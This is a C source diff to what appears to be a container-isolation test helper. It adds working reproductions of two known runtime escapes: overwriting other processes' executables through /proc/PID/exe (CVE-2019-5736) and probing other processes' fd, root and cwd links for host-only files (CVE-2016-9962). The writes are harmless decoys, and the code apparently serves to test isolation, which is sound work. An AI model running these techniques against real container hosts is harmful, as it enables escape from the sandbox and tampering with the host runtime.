@@ -249,20 +249,106 @@ static int do_mknod(char **argv)
 				  strtoul(argv[2], NULL, 0)));
 }
 
-/* Writes a byte to PATH as long as it can be opened for writing; for CVE-2019-5736. */
-static int do_scribble(char **argv)
+/* Calls see(PID, PATH) for /proc/PID/exe of every process but this one, ROUNDS times. */
+static void each_process(long rounds, void (*see)(const char *pid, const char *path))
 {
-	long rounds = strtol(argv[1], NULL, 10), opened = 0;
+	struct dirent *e;
+	char path[300];
+	DIR *d;
+
+	while (rounds-- > 0 && (d = opendir("/proc"))) {
+		while ((e = readdir(d))) {
+			if (e->d_name[0] < '1' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
+				continue;
+			snprintf(path, sizeof(path), "/proc/%s", e->d_name);
+			see(e->d_name, path);
+		}
+		closedir(d);
+	}
+}
+
+/*
+ * The attack of CVE-2019-5736: gets hold of other processes' executables, and writes to them as
+ * soon as nobody executes them any more. Files that are named like those of the container are let
+ * alone, so what is counted is the runtime's.
+ */
+static int held[64];
+static unsigned nheld;
+static long written;
+
+static void scribble(const char *pid, const char *path)
+{
+	char exe[300], to[300];
+	ssize_t n;
+	unsigned i;
 	int fd;
 
-	while (rounds-- > 0) {
-		fd = open(argv[0], O_WRONLY);
+	(void)pid;
+	snprintf(exe, sizeof(exe), "%s/exe", path);
+	n = readlink(exe, to, sizeof(to) - 1);
+	to[n < 0 ? 0 : n] = 0;
+	if (n > 0 && strncmp(to, "/bin/", 5)) {
+		fd = open(exe, O_RDONLY | O_CLOEXEC);
+		if (fd >= 0) {
+			i = nheld++ % 64;
+			if (nheld > 64)
+				close(held[i]);
+			held[i] = fd;
+		}
+	}
+	for (i = 0; i < nheld && i < 64; i++) {
+		snprintf(to, sizeof(to), "/proc/self/fd/%d", held[i]);
+		fd = open(to, O_WRONLY | O_CLOEXEC);
 		if (fd < 0)
 			continue;
-		opened += write(fd, "#!decoy\n", 8) == 8;
+		written += write(fd, "#!decoy\n", 8) == 8;
 		close(fd);
 	}
-	printf("scribble %ld\n", opened);
+}
+
+static int do_scribble(char **argv)
+{
+	each_process(strtol(argv[0], NULL, 10), scribble);
+	printf("scribble held %u written %ld\n", nheld, written);
+	return 0;
+}
+
+/*
+ * CVE-2016-9962: looks through the descriptors, root and cwd of other processes for a way to
+ * a file that only the host has (argument: its absolute path there).
+ */
+static const char *wanted;
+static long found, looked;
+
+static void spy(const char *pid, const char *path)
+{
+	char dir[300], at[900];
+	struct dirent *e;
+	DIR *d;
+
+	(void)pid;
+	snprintf(at, sizeof(at), "%s/root%s", path, wanted);
+	found += !access(at, F_OK);
+	snprintf(at, sizeof(at), "%s/cwd/../../../../../../../..%s", path, wanted);
+	found += !access(at, F_OK);
+	snprintf(dir, sizeof(dir), "%s/fd", path);
+	d = opendir(dir);
+	while (d && (e = readdir(d))) {
+		if (e->d_name[0] == '.')
+			continue;
+		looked++;
+		snprintf(at, sizeof(at), "%s/%s/../../../../../../../..%s", dir, e->d_name, wanted);
+		found += !access(at, F_OK);
+	}
+	if (d)
+		closedir(d);
+}
+
+static int do_spy(char **argv)
+{
+	wanted = argv[1];
+	each_process(strtol(argv[0], NULL, 10), spy);
+	printf("spy looked %d found %ld\n", looked > 0, found);
 	return 0;
 }
 
@@ -301,9 +387,9 @@ static const struct verb {
 	{ "tiocsti", 0, do_tiocsti }, { "statfs", 1, do_statfs },
 	{ "clocks", 0, do_clocks },   { "call", 1, do_call },
 	{ "open", 1, do_open },	      { "mount", 4, do_mount },
-	{ "mknod", 3, do_mknod },     { "scribble", 2, do_scribble },
+	{ "mknod", 3, do_mknod },     { "scribble", 1, do_scribble },
 	{ "alloc", 1, do_alloc },     { "rlimit", 1, do_rlimit },
-	{ "ids", 0, do_ids },
+	{ "ids", 0, do_ids },	      { "spy", 2, do_spy },
 };
 
 int main(int argc, char **argv)
